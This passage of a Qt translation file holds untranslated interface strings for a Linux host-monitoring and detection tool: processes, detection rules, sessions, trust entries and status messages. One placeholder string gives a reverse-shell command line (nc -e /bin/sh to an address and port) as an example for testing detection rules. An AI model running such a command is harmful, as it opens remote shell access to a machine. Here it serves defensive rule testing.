    <message>
        <source>Memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resident memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>I/O</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Read and written, bytes a second</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Threads</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open descriptors; – where they cannot be read</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The installed package its executable belongs to</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>State</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What it is doing now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Running</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sleeping</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waiting for disk</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stopped</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Being debugged</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended (zombie)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Idle</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unknown</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>unnamed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 of the machine, %2 of one core</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 resident, %2 of the machine</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1, %2 operations a second</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open network connections</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProcessDetailsDialog</name>
    <message>
        <source>Details of %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Asking the helper…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy as JSON</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Close</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The answer cannot be read: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see this</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No details</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProcessPage</name>
    <message>
        <source>Arrangement</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tree</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Flat</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No processes to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the processes…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No process matches “%1”.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper sees none in its scope.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 process</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProcessView</name>
    <message>
        <source>Processes</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProgramHoursPanel</name>
    <message>
        <source>Processor, % of a core</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All processes of %1 in the last 24 hours: at most %2 of a core and %3.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 has used little since the helper was started: its hours are not kept.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RailButton</name>
    <message>
        <source>%1 to look at</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ResponseList</name>
    <message>
        <source>Nothing was done, it was only recorded.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ResultBar</name>
    <message>
        <source>Close the message</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Undo</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RuleDetails</name>
    <message>
        <source>Look for this</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When it is certain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Response</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Techniques</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Looks at</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>May also be</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>File</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Id</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rule chosen</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Choose a rule to see what it means and what is done then.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RuleTableModel</name>
    <message>
        <source>Rule</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What is looked for</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Level</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How grave it is when it is found</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Response</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What is done when it is certain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Hits</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Found since the helper was started</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>State</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Whether it is looked for at all</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Off</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RuleTestBox</name>
    <message>
        <source>Would it be found?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Test</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Paste a command line</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Command line to test</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Test the command line</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>From an alert ▾</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Take the program of an alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It is held against the rules of files. Nothing is run.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No alert has a program yet</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Paste a command line first, such as: nc -e /bin/sh 192.0.2.1 4444</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Testing…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rule of a file matches. Behaviour, such as a shell with a socket, is judged only while it happens.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>One rule matches:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 rules match:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show the rule %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RuleText</name>
    <message>
        <source>Info</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Informational</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Low</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Medium</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>High</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Critical</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Write it down</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Tell me</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspend</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block address</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill with children</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Built in</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::RulesPage</name>
    <message>
        <source>Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the rules…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper looks for nothing. Its rule files may be missing.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No rules to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Built in</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sigma</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Off</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Switch off</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Look for this, or no longer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Read files again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Read the rule files again; those that cannot be used are named</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Switch on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 off</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill programs by this rule?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Whatever this rule is certain of is killed: after a question in the mode Ask, at once in the mode Enforce. A rule that is wrong then kills what you need.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill from now on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 rule</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SessionTableModel</name>
    <message>
        <source>User</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who is logged in</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>From</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The computer the login came from</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Where</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminal or seat</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>How</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which service let them in</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Began</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When the login was</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When the session was over</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Lasted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>From its beginning to its end, or until now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>State</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Whether it goes on</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SessionText</name>
    <message>
        <source>ssh</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Console</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Desktop</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>this computer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no terminal</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Goes on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>End not seen</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ended</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SessionsPage</name>
    <message>
        <source>Sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the sessions…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No login has been seen yet. Sessions of others are shown with “Everybody&apos;s”.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No sessions to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Everybody&apos;s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show the sessions of others too; a password may be asked for</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 go on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 from elsewhere</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 session</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 goes on</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SettingEditor</name>
    <message>
        <source>On</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>One entry a line</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 lists</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Off</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not set</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SettingPanel</name>
    <message>
        <source>Save</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Discard</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Discard the change of %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reset</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reset %1 to its default</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only in the configuration file, by an administrator.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1; usually %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SettingText</name>
    <message>
        <source>Observe</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Enforce</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What the rule says</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Let it go on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Keep it suspended</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alert</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warning</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Info</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Response</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Dumps and ends</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resources</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Network</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Logs and history</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Mail</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Allowed: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SettingsPage</name>
    <message>
        <source>Search</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search settings</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Found</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No setting matches “%1”.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the settings</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No settings to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the settings…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::SilenceButton</name>
    <message>
        <source>Silence this rule</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For an hour</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Until tomorrow</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For a week</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Speak again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Silent until %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Silence…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::Status</name>
    <message>
        <source>A program is suspended and waits for your answer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 programs are suspended and wait for your answer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>One alert wants to be looked at.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 alerts want to be looked at.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Observing only, nothing is stopped. %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing needs you. One thing limits what can be seen or done.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing needs you. %1 things limit what can be seen or done.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing needs you. %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing is being watched: the helper does not answer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing is being watched. %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is starting and takes stock…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unreachable</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connecting</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 limit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 limits</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Events lost</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All well</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>eBPF</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>process connector</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>polling /proc</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no event source</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 events lost</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>helper %1 CPU, %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Watching %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Watching %1, %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 connections</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::StatusStrip</name>
    <message>
        <source>Mode</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pause responses</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pause responses: watch on, but stop nothing for a while</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pause responses for 15 minutes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Pause responses for 1 hour</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>End the pause</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Health: %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::StoryPanel</name>
    <message>
        <source>The same story</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TimeChart</name>
    <message>
        <source>now</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustEntryDialog</name>
    <message>
        <source>Trust</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>+ Another condition</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust exactly this?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rules stay silent when all conditions hold. The more there are, the less can hide behind them.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Until</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>From now on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For a day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For a week</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For 30 days</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>For a year</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Note</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Why, for whoever reads this later</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Your password is asked for.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All but those about behaviour</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Condition</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Value of the condition</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Remove the condition</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The same kind of condition stands there twice.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustKeys</name>
    <message>
        <source>Program of the package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Exactly this file (SHA-256)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>64 digits and letters a to f</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Program at this path</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs below this directory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs of this name</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Script at this path</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Started by</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Of the systemd unit</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Of the Flatpak</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Of the snap</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Of the AppImage</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only for the user</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only for the user with the number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Talking with the address</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Talking with the domain</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On the port</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Say what is trusted: without a condition it would be everything.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>“%1” needs another value.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A rule about behaviour needs a package, a hash or a path: the rest can be forged.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A rule about behaviour needs a peer: an address, a domain or a port.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All but behaviour</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustList</name>
    <message>
        <source>Trust entries</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading what is trusted…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing is trusted yet</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>An entry lets one program do one thing without an alert. Add one here, or from an alert with “Always allow”.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No entries to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see what is trusted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Add…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust something else</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Add another like it…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Begin with the conditions of the chosen entry</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Remove…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust it no longer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 entries</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust this no longer?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust these %1 no longer?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The rules judge it again from now on. Your password is asked for.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Remove</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 entry</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustMatch</name>
    <message>
        <source>Program of the package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Exactly this file (SHA-256)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Program at this path</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Talking with the address</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On its own port</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On the port</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Only for the user with the number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Say which program: its package, its hash or its path.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Say with whom it may talk: an address or a port.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustPreview</name>
    <message>
        <source>What it would silence could not be counted: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>In the last %1 days it would have silenced none of your alerts.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>In the last %1 days it would have silenced %2 of your alerts: %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>(only the newest were looked at)</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustPreviewLabel</name>
    <message>
        <source>Counting what it would have silenced…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::TrustTableModel</name>
    <message>
        <source>What is trusted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All of these have to hold</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which rules leave it alone</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Until</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When it ends by itself</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Note</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Why it was made</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No end</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Over</source>
        <translation type="unfinished"></translation>
    </message>
</context>
